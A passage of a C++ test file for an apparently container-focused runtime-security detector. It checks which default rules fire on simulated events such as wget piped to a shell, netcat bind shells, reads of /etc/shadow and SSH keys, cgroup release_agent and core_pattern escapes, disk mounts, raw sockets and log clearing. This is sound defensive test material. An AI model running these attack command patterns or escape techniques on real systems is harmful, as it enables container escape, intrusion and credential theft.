    {   // the one-liner first, connecting after the shell's exec, refused (an attempt counts)
        Pipeline p;
        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
        CHECK(p.reader(11, "/usr/bin/perl", {"perl"}).empty());
        CHECK(p.connect(10, "/usr/bin/python3", py, -111) == kWriterLast);
    }
    {   // the one-liner connected before the shell's exec
        Pipeline p;
        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
        CHECK(p.connect(10, "/usr/bin/python3", py, -115).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh", "-"}) == kShellLast);
    }
}

TEST_CASE("default rules: busybox and renamed downloaders piped to a shell", "[default_rules][drift][pipe]") {
    const std::vector<std::string> bb_wget{"busybox", "wget", "-O", "-", "http://127.0.0.1:8080/x.sh"};
    {   // `busybox wget` goes by its applet's name too: a known downloader
        Pipeline p;
        CHECK(p.writer(10, "/bin/busybox", bb_wget).empty());
        CHECK(p.connect(10, "/bin/busybox", bb_wget).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}) == kShellLast);
    }
    {   // the shell first: at busybox's exec, before any connect
        Pipeline p;
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
        CHECK(p.writer(10, "/bin/busybox", bb_wget) == kWriterLast);
        CHECK(p.connect(10, "/bin/busybox", bb_wget).empty());
    }
    {   // busybox run as itself with an applet that says nothing: its first connect
        Pipeline p;
        const std::vector<std::string> bb_getter{"busybox", "ftpget", "127.0.0.1", "-", "x.sh"};
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
        CHECK(p.writer(10, "/bin/busybox", bb_getter).empty());
        CHECK(p.connect(10, "/bin/busybox", bb_getter) == kWriterLast);
    }
    {   // a copy of busybox started with argv[0] wget: its argv[0] names it before any connect
        Pipeline p;
        CHECK(p.writer(10, "/opt/tools/getter", {"wget", "-qO-", "http://127.0.0.1:8080/x.sh"}).empty());
        CHECK(p.reader(11, "/bin/busybox", {"busybox", "sh"}) == kShellLast);
    }
    {   // busybox's shell through /proc/self/exe first, a `sleep` before the renamed copy in the subshell
        Pipeline p;
        Scene sh = with_stdio(exec_scene("/bin/busybox", {"sh", "-s", "renamed"}), p.pipe, p.tty, p.tty);
        sh.event.comm = sh.process.comm = "exe";
        CHECK(p.step(sh, 11).empty());
        CHECK(p.writer(12, "/bin/sleep", {"sleep", "1"}).empty());
        CHECK(p.writer(10, "/opt/tools/getter", {"wget", "-q", "-O", "-", "http://127.0.0.1:8080/x.sh"}) == kWriterLast);
    }
    {   // a renamed program that connects, read by busybox's shell through /proc/self/exe
        Pipeline p;
        CHECK(p.writer(10, "/opt/tools/getter", {"getter", "http://127.0.0.1:8080/x.sh"}).empty());
        CHECK(p.connect(10, "/opt/tools/getter", {"getter", "http://127.0.0.1:8080/x.sh"}).empty());
        Scene sh = with_stdio(exec_scene("/bin/busybox", {"sh"}), p.pipe, p.tty, p.tty);
        sh.event.comm = sh.process.comm = "exe";
        CHECK(p.step(sh, 11) == kShellLast);
    }
}

TEST_CASE("default rules: pipes into shells that bring nothing from the network, and downloads into "
          "non-shells, stay quiet",
          "[default_rules][drift][pipe][near_miss]") {
    const std::vector<std::string> curl{"curl", "-s", "http://203.0.113.9/data.json"};
    {   // cat file | sh: a writer that never connected
        Pipeline p;
        CHECK(p.writer(10, "/bin/cat", {"cat", "/etc/motd.sh"}).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
    }
    {   // echo cmd | sh: the shell's builtin writes, no program execs
        Pipeline p;
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
    }
    {   // generate-config | sh, the shell first: the writer runs but never connects
        Pipeline p;
        CHECK(p.reader(11, "/bin/bash", {"bash"}).empty());
        CHECK(p.writer(10, "/usr/local/bin/generate-config", {"generate-config"}).empty());
        Scene unix_connect = connect_unix_scene("/run/nscd/socket");
        unix_connect.by("/usr/local/bin/generate-config", {"generate-config"});
        CHECK(p.step(unix_connect, 10).empty());
    }
    for (const std::vector<std::string> &reader :
         {std::vector<std::string>{"tar", "xz"}, {"jq", ".name"}, {"grep", "version"},
          {"python3", "-m", "json.tool"}, {"python3", "-c", "import json,sys; print(json.load(sys.stdin))"},
          {"sh", "-c", "cat > /tmp/data.json"}, {"bash", "/opt/consume.sh"}, {"busybox", "tar", "x"}}) {
        INFO(reader[0] << " " << reader[1]);
        const std::string exe = "/usr/bin/" + reader[0];
        {   // curl first
            Pipeline p;
            CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
            CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
            CHECK(p.reader(11, exe, reader).empty());
        }
        {   // the reader first
            Pipeline p;
            CHECK(p.reader(11, exe, reader).empty());
            CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
            CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
        }
    }
    {   // busybox's `sh -c 'cat >f'` runs cat through /proc/self/exe: busybox by its file, cat by argv[0]
        Pipeline p;
        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
        Scene cat = with_stdio(exec_scene("/bin/busybox", {"cat"}), p.pipe, p.tty, p.tty);
        cat.event.comm = cat.process.comm = "exe";
        CHECK(p.step(cat, 11).empty());
        CHECK(p.writer(12, "/usr/bin/curl", curl).empty());
    }
    {   // sh script.sh | tee log: the shell writes, tee reads
        Pipeline p;
        CHECK(p.writer(10, "/bin/sh", {"sh", "script.sh"}).empty());
        CHECK(p.connect(10, "/bin/sh", {"sh", "script.sh"}).empty());
        CHECK(p.reader(11, "/usr/bin/tee", {"tee", "log"}).empty());
    }
    {   // on the host (an install script on a node is not a container's drift)
        Pipeline p;
        p.on_host = true;
        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
    }
}

// ---- bind shells: a listener's connection piped to a shell ---------------------

TEST_CASE("default rules: a listener piped to a shell is a bind shell, whichever side execs or accepts last",
          "[default_rules][scanner][pipe]") {
    const Names kListenerLast{"bind_shell_listener_piped_to_shell"}, kShellAfter{"bind_shell_piped_from_listener"};
    const std::vector<std::string> renamed{"kworker", "-l", "-p", "4444"};
    {   // a renamed netcat, the shell waiting: its first accept fires, later ones do not
        Pipeline p;
        CHECK(p.writer(10, "/opt/tools/kworker", renamed).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
        CHECK(p.accept(10, "/opt/tools/kworker", renamed) == kListenerLast);
        REQUIRE(p.outputs.size() == 1);
        CHECK(p.outputs[0] == "Bind shell in container " + kContainerId +
                                  ": /opt/tools/kworker (kworker -l -p 4444) accepted 10.0.0.9:40000->10.0.0.5:4444 "
                                  "and writes to /bin/sh (), which reads its program from it");
        CHECK(p.accept(10, "/opt/tools/kworker", renamed).empty());
    }
    {   // the shell starts after the accept
        Pipeline p;
        CHECK(p.writer(10, "/opt/tools/kworker", renamed).empty());
        CHECK(p.accept(10, "/opt/tools/kworker", renamed).empty());
        CHECK(p.reader(11, "/bin/bash", {"bash", "-s"}) == kShellAfter);
    }
    {   // busybox's netcat and shell (the applets by argv[0]); nc is a known downloader too
        Pipeline p;
        CHECK(p.reader(11, "/bin/busybox", {"sh"}).empty());
        CHECK(p.writer(10, "/bin/busybox", {"nc", "-l", "-p", "4444"}) ==
              (Names{"download_piped_to_running_shell", "network_tool_in_container"}));
        CHECK(p.accept(10, "/bin/busybox", {"nc", "-l", "-p", "4444"}) ==
              (Names{"bind_shell_listener_piped_to_shell"}));
    }
    {   // a python listener into perl
        Pipeline p;
        const std::vector<std::string> py{"python3", "-c", "import socket;s=socket.create_server(('',4444))"};
        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
        CHECK(p.reader(11, "/usr/bin/perl", {"perl"}).empty());
        CHECK(p.accept(10, "/usr/bin/python3", py) == kListenerLast);
    }
}

TEST_CASE("default rules: servers that accept, and listeners not read by a shell, stay quiet or get a notice",
          "[default_rules][scanner][near_miss]") {
    {   // a server logging to a pipe read by a log shipper, not a shell
        Pipeline p;
        CHECK(p.writer(10, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}).empty());
        CHECK(p.reader(11, "/usr/bin/tee", {"tee", "/var/log/app.log"}).empty());
        CHECK(p.accept(10, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}).empty());
    }
    {   // a listener whose output a shell reads as data (sh script.sh), not as its program
        Pipeline p;
        CHECK(p.writer(10, "/opt/tools/kworker", {"kworker", "-l"}).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh", "/opt/consume.sh"}).empty());
        CHECK(p.accept(10, "/opt/tools/kworker", {"kworker", "-l"}).empty());
    }
    {   // on the host
        Pipeline p;
        p.on_host = true;
        CHECK(p.writer(10, "/bin/nc", {"nc", "-l", "4444"}).empty());
        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
        CHECK(p.accept(10, "/bin/nc", {"nc", "-l", "4444"}).empty());
    }
    // an accept with no pipe: a network tool gets a notice, a server nothing
    auto accepted_by = [](const std::string &exe, std::vector<std::string> argv) {
        Scene s = socket_scene(crowsnest::Syscall::Accept4, {3, SOCK_CLOEXEC}, 5, "10.0.0.5", 4444, "10.0.0.9",
                               40000, IPPROTO_TCP);
        s.by(exe, std::move(argv));
        return s;
    };
    const auto nc = detect(accepted_by("/bin/busybox", {"nc", "-lk", "-p", "4444"}));
    REQUIRE(nc.size() == 1);
    CHECK(nc[0].rule->name == "network_tool_accepted_connection_in_container");
    CHECK(nc[0].output == "Network tool /bin/busybox (busybox -lk -p 4444) in container " + kContainerId +
                              " accepted a connection from 10.0.0.9:40000 on 10.0.0.5:4444");
    CHECK(fired(accepted_by("/usr/bin/socat", {"socat", "TCP-LISTEN:4444", "-"})) ==
          Names{"network_tool_accepted_connection_in_container"});
    CHECK(fired(accepted_by("/usr/bin/socat", {"socat", "TCP-LISTEN:4444", "-"}).on_host()).empty());
    for (const auto &server : {std::vector<std::string>{"python3", "-m", "http.server"}, {"nginx"}, {"node", "app.js"},
                               {"sshd", "-D"}, {"redis-server"}}) {
        INFO(server[0]);
        CHECK(fired(accepted_by("/usr/bin/" + server[0], server)).empty());
    }
}

// ---- host files and escapes -------------------------------------------------

TEST_CASE("default rules: a host secret opened from a container", "[default_rules][host_mount]") {
    const auto ds = detect(host_file("/host/etc/shadow", "/etc/shadow"));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "host_secret_read_from_container");
    CHECK(ds[0].output == "Host file /etc/shadow opened from container " + kContainerId +
                              " as /host/etc/shadow by cat (/usr/bin/cat)");
    CHECK(fired(host_file("/x/id_rsa", "/root/.ssh/id_rsa")) == Names{"host_secret_read_from_container"});
    CHECK(fired(host_file("/x/id_ed25519", "/home/ubuntu/.ssh/id_ed25519")) == Names{"host_secret_read_from_container"});
    CHECK(fired(host_file("/etc/shadow", "/etc/shadow").on_host()).empty());
    CHECK(fired(open_scene("/host/etc/shadow")).empty());  // no protected file reached
    CHECK(fired(host_file("/x", "/etc/shadow-")).empty());
}

TEST_CASE("default rules: host files that are only dangerous to write", "[default_rules][host_mount]") {
    CHECK(fired(host_file("/host/etc/passwd", "/etc/passwd")).empty());  // ls and id read it all the time
    CHECK(fired(host_file("/host/etc/cron.d/job", "/etc/cron.d/job", O_WRONLY | O_CREAT | O_TRUNC)) ==
          Names{"host_file_written_from_container"});
    CHECK(fired(host_file("/h/ld.so.preload", "/etc/ld.so.preload", O_WRONLY | O_APPEND)) ==
          Names{"host_file_written_from_container"});
    CHECK(fired(host_file("/h/authorized_keys", "/home/core/.ssh/authorized_keys", O_WRONLY | O_APPEND)) ==
          Names{"host_file_written_from_container"});
    // any other file directly in the host's /etc, when written
    CHECK(fired(host_file("/h/etc/hosts", "/etc/hosts", O_WRONLY | O_TRUNC)) == Names{"host_etc_written_from_container"});
    CHECK(fired(host_file("/h/etc/hosts", "/etc/hosts")).empty());
    CHECK(fired(host_file("/h/etc/hosts", "/etc/hosts", O_WRONLY).on_host()).empty());
    // a secret that is also a persistence file: writing it is the one verdict of its category
    CHECK(fired(host_file("/host/etc/shadow", "/etc/shadow", O_RDWR)) == Names{"host_file_written_from_container"});
}

TEST_CASE("default rules: other containers' logs, but not for log shippers", "[default_rules][host_mount]") {
    const std::string log = "/host/var/lib/docker/containers/" + kContainerId + "/" + kContainerId + "-json.log";
    CHECK(fired(open_scene(log)) == Names{"container_logs_read_from_container"});
    CHECK(fired(open_scene("/var/log/pods/ns_pod_uid/app/0.log")) == Names{"container_logs_read_from_container"});
    Scene shipper = open_scene(log);
    shipper.by("/fluent-bit/bin/fluent-bit", {"/fluent-bit/bin/fluent-bit", "-c", "/fluent-bit/etc/fluent-bit.conf"});
    CHECK(fired(shipper).empty());
    shipper.event.comm = "flb-pipeline";  // the thread that reads has its own name
    CHECK(fired(shipper).empty());
    CHECK(fired(open_scene(log).on_host()).empty());                   // the host's own tools
    CHECK(fired(open_scene("/var/lib/docker/containers/x/config.v2.json")).empty());
    CHECK(fired(open_scene("/app/logs/app.log")).empty());            // the container's own logs
}

TEST_CASE("default rules: known container escapes", "[default_rules][escape]") {
    CHECK(fired(opened("/sys/fs/cgroup/rdma/x/release_agent", O_WRONLY | O_TRUNC)) == Names{"cgroup_release_agent_write"});
    CHECK(fired(open_scene("/sys/fs/cgroup/rdma/release_agent")).empty());  // reading it
    CHECK(fired(opened("/proc/sys/kernel/core_pattern", O_WRONLY)) == Names{"core_pattern_write"});
    CHECK(fired(opened("/proc/sys/kernel/core_pattern", O_WRONLY).on_host()).empty());  // systemd-coredump sets it
    CHECK(fired(exec_scene("/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"})) ==
          Names{"nsenter_in_container"});
    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/sda1", "/mnt"})) == Names{"host_disk_mount_in_container"});
    CHECK(fired(exec_scene("/bin/mount", {"mount", "-t", "tmpfs", "tmpfs", "/scratch"})).empty());
    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/nvme0n1p2", "/mnt"}).on_host()).empty());
}

namespace {

Scene mounted(const std::string &source, const std::string &target, const std::string &fstype, int64_t ret = 0,
              int64_t flags = 0) {
    return syscall_scene(crowsnest::Syscall::Mount, {flags}, ret, source, target, fstype);
}

Scene mknod_scene(mode_t mode, const std::string &path, int64_t ret = 0) {
    return syscall_scene(crowsnest::Syscall::Mknodat, {AT_FDCWD, mode, 0x801}, ret, path);
}

}  // namespace

TEST_CASE("default rules: a disk mounted by the call, whatever the program or device node", "[default_rules][escape]") {
    const auto ds = detect(mounted("/dev/sda1", "/mnt", "ext4", 0, MS_RDONLY));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "host_disk_mounted_by_call");
    CHECK(ds[0].output == "Disk /dev/sda1 (ext4) mounted on /mnt in container " + kContainerId +
                              " by strace (/usr/bin/strace)");
    // a node made with mknod, or a symlink: the disk filesystem gives it away
    CHECK(fired(mounted("/tmp/x", "/mnt", "xfs")) == Names{"host_disk_mounted_by_call"});
    // a named host disk with a type the caller left for the kernel to find
    CHECK(fired(mounted("/dev/nvme0n1p1", "/mnt", "")) == Names{"host_disk_mounted_by_call"});
    // refused: a warning
    CHECK(fired(mounted("/dev/sda1", "/mnt", "ext4", -EPERM)) == Names{"host_disk_mount_attempt"});
    // storage agents mount disks by design
    Scene csi = mounted("/dev/xvdf", "/var/lib/kubelet/plugins/x", "ext4");
    csi.by("/bin/aws-ebs-csi-driver", {"aws-ebs-csi-driver", "node"});
    CHECK(fired(csi).empty());
    // on the host, and the mounts ordinary containers make
    CHECK(fired(mounted("/dev/sda1", "/mnt", "ext4").on_host()).empty());
    CHECK(fired(mounted("tmpfs", "/scratch", "tmpfs")).empty());
    CHECK(fired(mounted("overlay", "/merged", "overlay")).empty());
    CHECK(fired(mounted("/data", "/srv", "", 0, MS_BIND | MS_REC)).empty());
    CHECK(fired(mounted("", "/", "", 0, MS_PRIVATE | MS_REC)).empty());
}

TEST_CASE("default rules: a disk mount begun with the new mount API", "[default_rules][escape]") {
    auto fsopen = [](const std::string &fstype, int64_t ret) {
        return syscall_scene(crowsnest::Syscall::Fsopen, {FSOPEN_CLOEXEC}, ret, "", "", fstype);
    };
    const auto ds = detect(fsopen("ext4", 5));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "disk_fs_context_in_container");
    CHECK(ds[0].output ==
          "Filesystem context for ext4 opened in container " + kContainerId + " by strace (/usr/bin/strace)");
    CHECK(fired(fsopen("ext4", -EPERM)).empty());  // refused: nothing can follow
    CHECK(fired(fsopen("tmpfs", 5)).empty());
    CHECK(fired(fsopen("ext4", 5).on_host()).empty());
}

TEST_CASE("default rules: proc, sysfs and cgroup mounted in a container, but not by its runtime",
          "[default_rules][escape]") {
    CHECK(fired(mounted("cgroup", "/tmp/cgrp", "cgroup")) == Names{"kernel_fs_mounted_in_container"});
    CHECK(fired(mounted("proc", "/p", "proc")) == Names{"kernel_fs_mounted_in_container"});
    CHECK(fired(mounted("sysfs", "/s", "sysfs")) == Names{"kernel_fs_mounted_in_container"});
    CHECK(fired(mounted("proc", "/p", "proc", -EPERM)).empty());  // refused: nothing seen
    Scene runc_init = mounted("proc", "/proc/self/fd/7", "proc");
    runc_init.by("/usr/sbin/runc", {"runc", "init"});
    runc_init.event.comm = runc_init.process.comm = "runc:[2:INIT]";
    CHECK(fired(runc_init).empty());
    CHECK(fired(mounted("proc", "/p", "proc").on_host()).empty());
}

TEST_CASE("default rules: a block device node made in a container", "[default_rules][escape]") {
    const auto ds = detect(mknod_scene(S_IFBLK | 0600, "/dev/sda1"));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "block_device_node_in_container");
    CHECK(ds[0].output == "Block device node /dev/sda1 (dev 0x801) made in container " + kContainerId +
                              " by strace (/usr/bin/strace), SUCCESS");
    CHECK(fired(mknod_scene(S_IFBLK | 0600, "/tmp/d", -EPERM)) == Names{"block_device_node_in_container"});
    // a FIFO (mkfifo), a character device, a plain file: no verdict
    CHECK(fired(mknod_scene(S_IFIFO | 0644, "/tmp/f")).empty());
    CHECK(fired(mknod_scene(S_IFCHR | 0666, "/dev/null")).empty());
    CHECK(fired(mknod_scene(0644, "/tmp/file")).empty());
    CHECK(fired(mknod_scene(S_IFBLK | 0600, "/dev/sda1").on_host()).empty());
    // memfd_create alone is what runtimes do all day
    CHECK(fired(syscall_scene(crowsnest::Syscall::MemfdCreate, {MFD_CLOEXEC}, 3, "", "", "v8")).empty());
}

TEST_CASE("default rules: packet and raw IP sockets in a container, but not ping's", "[default_rules][scanner]") {
    using crowsnest::Syscall;
    auto socket_call = [](int64_t domain, int64_t type, int64_t proto, int64_t ret = 3) {
        return syscall_scene(Syscall::Socket, {domain, type, proto}, ret);
    };
    const auto ds = detect(socket_call(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 768));  // a sniffer: ETH_P_ALL
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "raw_socket_in_container");
    CHECK(ds[0].output == "Raw socket in container " + kContainerId +
                              ": AF_PACKET SOCK_RAW|SOCK_CLOEXEC protocol 768 by strace (/usr/bin/strace), SUCCESS");
    CHECK(fired(socket_call(AF_PACKET, SOCK_DGRAM, 768)) == Names{"raw_socket_in_container"});
    CHECK(fired(socket_call(AF_INET, SOCK_RAW, IPPROTO_TCP)) == Names{"raw_socket_in_container"});  // SYN scan
    CHECK(fired(socket_call(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_RAW)) == Names{"raw_socket_in_container"});
    CHECK(fired(socket_call(AF_INET6, SOCK_RAW, IPPROTO_UDP)) == Names{"raw_socket_in_container"});
    CHECK(fired(socket_call(AF_INET, SOCK_PACKET, 768)) == Names{"raw_socket_in_container"});  // the old packet type
    // refused (no CAP_NET_RAW): the attempt is reported
    CHECK(fired(socket_call(AF_INET, SOCK_RAW, IPPROTO_TCP, -EPERM)) == Names{"raw_socket_in_container"});
    // ping and traceroute, ordinary sockets, and the host
    CHECK(fired(socket_call(AF_INET, SOCK_RAW, IPPROTO_ICMP)).empty());
    CHECK(fired(socket_call(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)).empty());
    CHECK(fired(socket_call(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)).empty());
    CHECK(fired(socket_call(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)).empty());
    CHECK(fired(socket_call(AF_NETLINK, SOCK_RAW, 0)).empty());  // route and audit queries
    CHECK(fired(socket_call(AF_UNIX, SOCK_STREAM, 0)).empty());
    CHECK(fired(socket_call(AF_PACKET, SOCK_RAW, 768).on_host()).empty());
}

TEST_CASE("default rules: secret searches, sensitive links and system logs emptied in a container",
          "[default_rules][credentials]") {
    const auto search = detect(exec_scene("/usr/bin/find", {"find", "/", "-name", "id_rsa*"}));
    REQUIRE(search.size() == 1);
    CHECK(search[0].rule->name == "secret_search_in_container");
    CHECK(search[0].rule->category == "credential_access");
    CHECK(search[0].output == "Search for secrets in container " + kContainerId + ": find / -name id_rsa* (/usr/bin/find)");
    CHECK(fired(exec_scene("/bin/busybox", {"grep", "-rl", "BEGIN OPENSSH PRIVATE", "/home"})) ==
          Names{"secret_search_in_container"});
    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/", "-name", "*.pem"})) == Names{"secret_search_in_container"});
    // near misses: other searches, a key read by its path, the host
    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/tmp", "-name", "*.log", "-mtime", "+7"})).empty());
    CHECK(fired(exec_scene("/bin/grep", {"grep", "-r", "TODO", "/src"})).empty());
    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/", "-name", "id_rsa"}).on_host()).empty());

    const auto link = detect(syscall_scene(crowsnest::Syscall::Symlinkat, {}, 0, "/etc/shadow", "/tmp/notes.txt"));
    REQUIRE(link.size() == 1);
    CHECK(link[0].rule->name == "sensitive_file_symlinked_in_container");
    CHECK(link[0].output == "Link to /etc/shadow made as /tmp/notes.txt in container " + kContainerId +
                                " by strace (strace -p 1)");
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/root/.ssh/authorized_keys", "k")) ==
          Names{"sensitive_file_symlinked_in_container"});
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/proc/1/root", "/tmp/r")) ==
          Names{"sensitive_file_symlinked_in_container"});
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/usr/share/zoneinfo/UTC", "/etc/localtime")).empty());
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/etc/shadow.d", "/tmp/x")).empty());
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, -17, "/etc/shadow", "/tmp/x")).empty());  // EEXIST

    Scene cleared = opened("/var/log/auth.log", O_WRONLY | O_TRUNC);
    cleared.by("/bin/sh", {"sh", "-c", ": > /var/log/auth.log"});
    const auto ds = detect(cleared);
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "system_log_cleared_in_container");
    CHECK(ds[0].rule->category == "defense_evasion");
    CHECK(fired(opened("/var/log/wtmp", O_RDWR | O_TRUNC)) == Names{"system_log_cleared_in_container"});
    CHECK(fired(opened("/var/log/audit/audit.log", O_WRONLY | O_TRUNC)) == Names{"system_log_cleared_in_container"});
    // an entrypoint's own log, an append to the system log, another directory
    CHECK(fired(opened("/var/log/app.log", O_WRONLY | O_CREAT | O_TRUNC)).empty());
    CHECK(fired(opened("/var/log/nginx/access.log", O_WRONLY | O_TRUNC)).empty());
    CHECK(fired(opened("/var/log/syslog", O_WRONLY | O_APPEND)).empty());
    CHECK(fired(opened("/tmp/syslog", O_WRONLY | O_TRUNC)).empty());
}

TEST_CASE("default rules: admin tools, data wipes, debugfs on a device and program directories written in a "
          "container",
          "[default_rules][escape]") {
    const auto kubectl = detect(exec_scene("/usr/local/bin/kubectl", {"kubectl", "get", "secrets", "-A"}));
    REQUIRE(kubectl.size() == 1);
    CHECK(kubectl[0].rule->name == "container_admin_tool_in_container");
    CHECK(kubectl[0].rule->category == "execution");
    CHECK(kubectl[0].rule->severity == "medium");
    CHECK(fired(exec_scene("/usr/local/bin/c", {"crictl", "ps"})) == Names{"container_admin_tool_in_container"});  // argv[0]
    CHECK(fired(exec_scene("/usr/bin/docker", {"docker", "-H", "unix:///host/run/docker.sock", "ps"})) ==
          Names{"container_admin_tool_in_container"});
    CHECK(fired(exec_scene("/usr/local/bin/kubectl", {"kubectl", "version"}).on_host()).empty());
    CHECK(fired(exec_scene("/usr/bin/dockerd-rootless.sh", {"dockerd-rootless.sh"})).empty());

    const auto wipe = detect(exec_scene("/usr/bin/shred", {"shred", "-u", "/tmp/x"}));
    REQUIRE(wipe.size() == 1);
    CHECK(wipe[0].rule->name == "data_wipe_tool_in_container");
    CHECK(wipe[0].rule->category == "impact");
    CHECK(fired(exec_scene("/bin/busybox", {"shred", "-n", "3", "/data/db"})) == Names{"data_wipe_tool_in_container"});
    CHECK(fired(exec_scene("/bin/rm", {"rm", "-f", "/tmp/x"})).empty());

    const auto debugfs = detect(exec_scene("/sbin/debugfs", {"debugfs", "-R", "cat /etc/shadow", "/dev/sda1"}));
    REQUIRE(debugfs.size() == 1);
    CHECK(debugfs[0].rule->name == "debugfs_on_device_in_container");
    CHECK(debugfs[0].rule->severity == "high");
    CHECK(fired(exec_scene("/sbin/debugfs", {"debugfs", "-R", "ls", "rootfs.img"})).empty());  // an image file

    Scene planted = opened("/usr/local/bin/ls", O_WRONLY | O_CREAT | O_TRUNC);
    planted.by("/bin/cp", {"cp", "/tmp/ls", "/usr/local/bin/ls"});
    const auto ds = detect(planted);
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "binary_dir_written_in_container");
    CHECK(ds[0].output == "Program directory written in container " + kContainerId +
                              ": /usr/local/bin/ls by cp (cp /tmp/ls /usr/local/bin/ls)");
    Scene refused = opened("/bin/ps", O_WRONLY | O_TRUNC);
    refused.event.ret = -30;  // EROFS: attempts count
    CHECK(fired(refused) == Names{"binary_dir_written_in_container"});
    // package managers and their children, reads, other directories under /usr
    Scene dpkg = opened("/usr/bin/make", O_WRONLY | O_CREAT);
    dpkg.by("/usr/bin/dpkg", {"dpkg", "-i", "make.deb"});
    CHECK(fired(dpkg).empty());
    Scene pip = opened("/usr/local/bin/flask", O_WRONLY | O_CREAT);  // a script's comm is the script's name
    pip.by("/usr/local/bin/python3.12", {"/usr/local/bin/python3", "/usr/local/bin/pip", "install", "flask"});
    pip.process.comm = pip.event.comm = "pip";
    CHECK(fired(pip).empty());
    Scene maintainer = opened("/usr/sbin/policy-rc.d", O_WRONLY | O_CREAT);  // a package's script, under dpkg
    maintainer.by("/bin/sh", {"/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"});
    maintainer.parent = {4300, 1, "dpkg", "/usr/bin/dpkg", {"dpkg", "--configure", "-a"}};
    CHECK(fired(maintainer).empty());
    CHECK(fired(opened("/usr/bin/ls", O_RDONLY)).empty());
    CHECK(fired(opened("/usr/share/doc/x/README", O_WRONLY | O_CREAT)).empty());
    CHECK(fired(opened("/usr/lib/python3/dist-packages/x.py", O_WRONLY | O_CREAT)).empty());
}

TEST_CASE("default rules: container discovery is three confinement files read within a minute, not one",
          "[default_rules][recon]") {
    // amicontained-like: a renamed binary learns its AppArmor profile, init's
    // cgroup and the core_pattern hook
    auto rules = load_rules();
    const std::vector<std::string> probe = {"/proc/self/attr/current", "/proc/1/cgroup", "/proc/1/cgroup",
                                            "/proc/sys/kernel/core_pattern"};
    Names last;
    for (size_t i = 0; i < probe.size(); i++) {
        Scene s = opened(probe[i], O_RDONLY);
        s.by("/tmp/.cache/healthcheck", {"healthcheck"});
        s.event.boot_ns = 1000000000ULL * (i + 1);
        last = fired(s, *rules);
        if (i + 1 < probe.size()) CHECK(last.empty());
    }
    CHECK(last == Names{"container_environment_probed"});

    // a shell script's busybox applets, each its own process, through a
    // relative path from /proc
    auto script = load_rules();
    int fires = 0;
    uint64_t t = 1000000000ULL;
    for (const std::string path : {"/proc/1/mountinfo", "/proc/sys/user/max_user_namespaces", "/proc/1/environ"}) {
        Scene s = opened(path, O_RDONLY);
        s.event.path = "1/../" + path.substr(6);
        s.by("/bin/busybox", {"cat", s.event.path});
        s.event.boot_ns = t += 5000000000ULL;
        fires += fired(s, *script) == Names{"container_environment_probed"};
    }
    CHECK(fires == 1);

    // a JVM or Go runtime at start, and a Kubernetes client: no confinement files
    auto runtime = load_rules();
    for (const std::string path : {"/proc/self/cgroup", "/proc/self/mountinfo", "/sys/fs/cgroup/cpu.max",
                                   "/var/run/secrets/kubernetes.io/serviceaccount/token",
                                   "/var/run/secrets/kubernetes.io/serviceaccount/namespace", "/proc/1/cgroup"}) {
        Scene s = opened(path, O_RDONLY);
        s.by("/usr/lib/jvm/bin/java", {"java", "-jar", "app.jar"});
        CHECK(fired(s, *runtime).empty());
    }
    // a monitoring agent with hostPID, a known agent by name, refused reads, and the host
    auto agents = load_rules();
    for (const std::string path : {"/proc/1/cgroup", "/proc/1/mountinfo", "/proc/1/environ", "/proc/kallsyms"}) {
        Scene host_pid = opened(path, O_RDONLY);
        host_pid.by("/opt/monitor/bin/collector", {"collector"}).with_host_pid_ns();
        CHECK(fired(host_pid, *agents).empty());
        Scene agent = opened(path, O_RDONLY);
        agent.by("/opt/datadog-agent/bin/agent/agent", {"datadog-agent", "run"});
        CHECK(fired(agent, *agents).empty());
        Scene refused = opened(path, O_RDONLY);
        refused.event.ret = -13;
        CHECK(fired(refused, *agents).empty());
        CHECK(fired(opened(path, O_RDONLY).on_host(), *agents).empty());
    }
}

TEST_CASE("default rules: credentials read by shell tools in a container, not by the workload", "[default_rules][credentials]") {
